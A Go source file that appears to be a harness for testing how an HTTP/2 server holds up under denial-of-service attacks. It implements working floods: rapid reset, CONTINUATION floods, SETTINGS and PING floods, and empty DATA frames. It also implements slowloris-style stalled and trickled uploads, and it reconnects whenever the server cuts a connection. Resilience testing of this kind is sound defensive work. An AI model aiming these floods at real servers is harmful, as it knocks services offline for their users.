//go:build linux

package main

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attacker is a client of HTTP/2 that writes what frames it likes.
type attacker struct {
	*http2.Framer
	text bytes.Buffer
	pack *hpack.Encoder
	id   uint32 // of the last stream
}

// attacks are what it writes again and again.
var attacks = map[string]func(*attacker) error{
	"rapid reset": func(a *attacker) error {
		return errors.Join(a.request(true), a.WriteRSTStream(a.id, http2.ErrCodeCancel))
	},
	"continuation": func(a *attacker) error {
		a.text.Reset()
		_ = a.pack.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 1000), Sensitive: true}) // into memory
		return errors.Join(a.first(), a.WriteContinuation(a.id, false, a.text.Bytes()))
	},
	"empty continuation": func(a *attacker) error { return errors.Join(a.first(), a.WriteContinuation(a.id, false, nil)) },
	"settings":           func(a *attacker) error { return a.WriteSettings() },
	"ping":               func(a *attacker) error { return a.WritePing(false, [8]byte{}) },
	"empty data":         func(a *attacker) error { return a.WriteRawFrame(http2.FrameData, 0, 1, nil) },
}

// uploads are attacks by request bodies that do not come, on a pool of few slots (/few): each holds its connections open until the end, and
// reopens those that it loses.
var uploads = map[string]func(address string, end time.Time){
	"silent uploads":          func(address string, end time.Time) { silentStreams(address, end, false) },
	"silent uploads, lengths": func(address string, end time.Time) { silentStreams(address, end, true) },
	"slow uploads":            slowUploads,
}

// silentStreams opens 99 requests on one connection, whose bodies never come.
func silentStreams(address string, end time.Time, length bool) {
	for time.Now().Before(end) {
		conn, err := net.Dial("tcp", address)
		if err != nil {
			time.Sleep(time.Millisecond) // it has no room for us
			continue
		}
		_ = conn.SetDeadline(end)
		a := &attacker{Framer: http2.NewFramer(conn, conn)}
		a.pack = hpack.NewEncoder(&a.text)
		_, err = io.WriteString(conn, http2.ClientPreface)
		err = errors.Join(err, a.WriteSettings())
		for range 99 {
			err = errors.Join(err, a.post(length))
		}
		for err == nil { // one that was ended is opened again
			var f http2.Frame
			if f, err = a.ReadFrame(); err != nil {
				break
			}
			switch f := f.(type) {
			case *http2.PingFrame:
				if !f.IsAck() {
					err = a.WritePing(true, f.Data)
				}
			case *http2.DataFrame:
				if f.StreamEnded() {
					err = a.post(length)
				}
			}
		}
		_ = conn.Close() // whatever is in it
	}
}

// post opens a stream with a body that does not come.
func (a *attacker) post(length bool) error {
	a.text.Reset()
	fields := []hpack.HeaderField{{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"}, {Name: ":authority", Value: "a"}, {Name: ":path", Value: "/few"}}
	if length {
		fields = append(fields, hpack.HeaderField{Name: "content-length", Value: "1000000"})
	}
	for _, f := range fields {
		_ = a.pack.WriteField(f) // into memory
	}
	a.id = max(1, a.id+2)
	a.id |= 1
	return a.WriteHeaders(http2.HeadersFrameParam{StreamID: a.id, BlockFragment: a.text.Bytes(), EndHeaders: true})
}

// slowUploads sends one byte every two seconds of the body of each of 24 connections.
func slowUploads(address string, end time.Time) {
	var all sync.WaitGroup
	for range 24 {
		all.Go(func() {
			for time.Now().Before(end) {
				conn, err := net.Dial("tcp", address)
				if err != nil {
					time.Sleep(time.Millisecond) // it has no room for us
					continue
				}
				_ = conn.SetDeadline(end)
				_, err = fmt.Fprintf(conn, "POST /few HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\nx")
				for err == nil {
					time.Sleep(min(2*time.Second, time.Until(end)))
					_, err = conn.Write([]byte("x"))
				}
				_ = conn.Close() // whatever is in it
			}
		})
	}
	all.Wait()
}

// first opens a stream whose head does not end, once.
func (a *attacker) first() error {
	if a.id > 0 {
		return nil
	}
	text := bytes.Clone(a.text.Bytes())
	err := a.request(false)
	a.text.Reset()
	a.text.Write(text)
	return err
}

// request opens a stream.
func (a *attacker) request(whole bool) error {
	a.text.Reset()
	for _, f := range []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "http"}, {Name: ":authority", Value: "a"}, {Name: ":path", Value: "/"}} {
		_ = a.pack.WriteField(f) // into memory
	}
	a.id = max(1, a.id+2)
	a.id |= 1
	return a.WriteHeaders(http2.HeadersFrameParam{StreamID: a.id, BlockFragment: a.text.Bytes(), EndStream: true, EndHeaders: whole})
}

// attackFor attacks for a while, on another connection whenever one is lost.
func attackFor(length time.Duration, kind, address string) {
	end := time.Now().Add(length)
	if upload := uploads[kind]; upload != nil {
		upload(address, end)
		return
	}
	for time.Now().Before(end) {
		conn, err := net.Dial("tcp", address)
		if err != nil {
			time.Sleep(time.Millisecond) // it has no room for us; nor would it have if we asked faster
			continue
		}
		_ = conn.SetDeadline(end)
		attack(conn, attacks[kind])
		_ = conn.Close() // whatever is in it
	}
}

func attack(conn net.Conn, flood func(*attacker) error) {
	a := &attacker{Framer: http2.NewFramer(conn, conn)}
	a.AllowIllegalWrites = true
	a.pack = hpack.NewEncoder(&a.text)
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil || a.WriteSettings() != nil {
		return
	}
	go func() { _, _ = io.Copy(io.Discard, conn) }() // an attacker who does not read is soon held back; ends with conn
	for flood(a) == nil {
	}
}
